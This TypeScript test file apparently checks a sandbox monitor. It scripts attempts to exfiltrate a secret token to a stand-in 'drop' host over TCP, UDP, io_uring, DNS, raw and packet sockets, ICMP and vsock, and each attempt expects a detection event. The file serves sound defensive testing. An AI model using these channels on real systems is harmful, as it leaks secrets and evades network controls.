// Exfiltration over the network: to a destination the policy does not allow,
// which has a listener (so a leak is seen), and through sockets that bypass
// address rules altogether.
import { scripted, expectEvent, type Row } from "./attempt.js";
import { DROP, DROP6, DROP_PORT, ROGUE_RESOLVER, attemptProgram } from "./world.js";

const VMADDR_CID_HOST = 2;

const send = (...args: (string | number)[]) => [attemptProgram("net-send"), ...args].join(" ");
const uring = (...args: (string | number)[]) => [attemptProgram("uring"), ...args].join(" ");

/** Root widens ping_group_range first (it covers ICMPv6 too); systemd opens it to every group
 * anyway. */
export const openPing = (script: string) =>
  `echo "0 0" > /proc/sys/net/ipv4/ping_group_range && ${script}`;

const row = (channel: string, attempts: Row["attempts"]): Row => ({
  group: "network",
  channel,
  needsSeal: false,
  attempts,
});

export const NET_ROWS: readonly Row[] = [
  row("TCP connect", [
    scripted("connect to the drop", expectEvent("connect", "egress"), (c) =>
      send("tcp", DROP, DROP_PORT, c.secrets.token),
    ),
    scripted("TCP Fast Open (no connect)", expectEvent("sendmsg", "egress"), (c) =>
      send("tfo", DROP, DROP_PORT, c.secrets.token),
    ),
    scripted("IPv4-mapped IPv6 address", expectEvent("connect", "egress"), (c) =>
      send("mapped", DROP, DROP_PORT, c.secrets.token),
    ),
    scripted("Multipath TCP socket", expectEvent("connect", "egress"), (c) =>
      send("mptcp", DROP, DROP_PORT, c.secrets.token),
    ),
  ]),
  row("UDP sendto", [
    scripted("sendto the drop", expectEvent("sendmsg", "egress"), (c) =>
      send("udp", DROP, DROP_PORT, c.secrets.token),
    ),
    scripted("connected UDP", expectEvent("connect", "egress"), (c) =>
      send("udpconn", DROP, DROP_PORT, c.secrets.token),
    ),
    scripted("UDP-Lite sendto", expectEvent("sendmsg", "egress"), (c) =>
      send("udplite", DROP, DROP_PORT, c.secrets.token),
    ),
  ]),
  row("io_uring connect", [
    scripted("IORING_OP_CONNECT to the drop", expectEvent("connect", "egress"), (c) =>
      uring("connect", DROP, DROP_PORT, c.secrets.token),
    ),
    scripted("IORING_OP_SENDMSG to the drop", expectEvent("sendmsg", "egress"), (c) =>
      uring("sendto", DROP, DROP_PORT, c.secrets.token),
    ),
  ]),
  row("DNS to another resolver", [
    scripted("query carrying the secret", expectEvent("sendmsg", "dns-elsewhere"), (c) =>
      send("dns", ROGUE_RESOLVER, c.secrets.token),
    ),
  ]),
  row("raw socket", [
    scripted("hand-built UDP on SOCK_RAW", expectEvent("socket-create", "raw-sockets"), (c) =>
      send("raw", DROP, DROP_PORT, c.secrets.token),
    ),
  ]),
  row("packet socket", [
    scripted("AF_PACKET frame", expectEvent("socket-create", "packet-sockets"), (c) =>
      send("packet", c.secrets.token),
    ),
  ]),
  row("ICMP echo (ping socket)", [
    scripted("echo request carrying the secret", expectEvent("sendmsg", "egress"), (c) =>
      openPing(send("ping", DROP, c.secrets.token)),
    ),
    scripted("ICMPv6 echo request carrying the secret", expectEvent("sendmsg", "egress"), (c) =>
      openPing(send("ping", DROP6, c.secrets.token)),
    ),
  ]),
  row("vsock to the host", [
    scripted("AF_VSOCK to CID 2", expectEvent("socket-create", "vsock"), (c) =>
      send("vsock", VMADDR_CID_HOST, 9999, c.secrets.token),
    ),
  ]),
];
